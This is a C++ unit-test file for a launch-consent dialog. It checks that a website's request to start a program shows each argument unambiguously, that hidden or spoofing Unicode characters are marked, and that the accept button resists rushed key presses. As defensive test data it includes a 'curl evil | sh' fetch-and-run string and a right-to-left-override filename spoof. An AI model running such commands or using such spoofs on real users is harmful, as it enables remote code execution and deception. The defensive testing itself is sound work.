// What the launch confirmation shows: the site, the program, each argument
// and the folder, with nothing that could make one text read as another.
#include "dialogs/launch_consent.h"

#include <gtest/gtest.h>

namespace vantile {
namespace {

using Row = ConsentText::Row;

TEST(LaunchConsent, ShowsTheSiteTheProgramEachArgumentAndTheFolderUnambiguously) {
  const ConsentText launch = DescribeConsent({LaunchConsent::Kind::Launch, "https://x.example", "/usr/bin/xterm",
                                              {"-e", "sh -c 'id'\n", "", "a\u202Etxt.exe", "caf\xC3\xA9\x7F\xFF"},
                                              "/tmp", ""});
  EXPECT_EQ(launch.heading, "https://x.example wants to start a program");
  EXPECT_EQ(launch.accept_caption, "&Start");
  EXPECT_EQ(launch.rows, (std::vector<Row>{{"Program:", "/usr/bin/xterm"},
                                           {"In folder:", "/tmp"},
                                           {"Arguments (5):", "-e", "2 characters"},
                                           {"", "sh -c 'id'\u240A", "11 characters"},
                                           {"", "\"\"", "0 characters"},
                                           {"", "a<U+202E>txt.exe", "9 characters"},
                                           {"", "caf\xC3\xA9\u2421<0xFF>", "6 characters"}}));
  const ConsentText folder = DescribeConsent({LaunchConsent::Kind::Folder, "https://x.example", "", {}, "", "/srv"});
  EXPECT_EQ(folder.heading, "https://x.example wants to open a folder");
  EXPECT_EQ(folder.accept_caption, "&Open");
  EXPECT_EQ(folder.rows, (std::vector<Row>{{"Folder:", "/srv"}}));
}

TEST(LaunchConsent, MarksEveryCharacterThatDoesNotPlainlyShowAsItself) {
  const std::pair<const char*, const char*> rows[] = {
      {"echo Welcome\u2028\u2029; curl evil | sh", "echo Welcome<U+2028><U+2029>; curl evil | sh"},
      {"x\u00ADy\u2060z\U000E0041", "x<U+00AD>y<U+2060>z<U+E0041>"},    // soft hyphen, word joiner, tag
      {"a\u00A0b\u3000c\u200Bd", "a<U+00A0>b<U+3000>c<U+200B>d"},       // spaces that are not the space
      {"\u0301x \u0301", "<U+0301>x <U+0301>"},                           // combining marks alone
      {"e\u0301 \u1100\u1161 \u00E9", "e\u0301 \u1100\u1161 \u00E9"},  // and joined: shown as written
      {"\u3164\u115F\u034F\uFE0F", "<U+3164><U+115F><U+034F><U+FE0F>"},  // default-ignorable letters, marks
      {"\uE000\U0010FFFD\U000E0080\u0085", "<U+E000><U+10FFFD><U+E0080><U+0085>"},  // private, unassigned, C1
      {"\xED\xA0\x80 \xC0\xAF \xF4\x90\x80\x80", "<0xED><0xA0><0x80> <0xC0><0xAF> <0xF4><0x90><0x80><0x80>"},
  };
  for (const auto& [text, shown] : rows) EXPECT_EQ(VisibleText(text), shown) << shown;
  EXPECT_EQ(CharacterCount("x\u00ADy"), "3 characters");
  EXPECT_EQ(CharacterCount("\xFF"), "1 character");
}

TEST(LaunchConsent, TheButtonWaitsForASecondOfFocusWithoutPresses) {
  using namespace std::chrono_literals;
  const ConsentGate::Clock::time_point t0{};
  ConsentGate gate;
  gate.Armed(t0);
  EXPECT_FALSE(gate.MayAccept(t0 + 5s)) << "never without the focus";
  gate.FocusChanged(true, t0 + 1s);
  // Presses every tenth of a second keep it waiting, however long they go on.
  for (int i = 1; i <= 30; ++i) {
    gate.Pressed(t0 + 1s + i * 100ms);
    EXPECT_FALSE(gate.MayAccept(t0 + 1s + i * 100ms + 99ms)) << i;
  }
  EXPECT_TRUE(gate.MayAccept(t0 + 5s));
  gate.Pressed(t0 + 5s);  // the answer, once live, stands
  EXPECT_TRUE(gate.MayAccept(t0 + 5s));
  gate.FocusChanged(false, t0 + 6s);
  gate.FocusChanged(true, t0 + 7s);
  EXPECT_FALSE(gate.MayAccept(t0 + 7s + 999ms)) << "the focus back starts the wait again";
}

}  // namespace
}  // namespace vantile
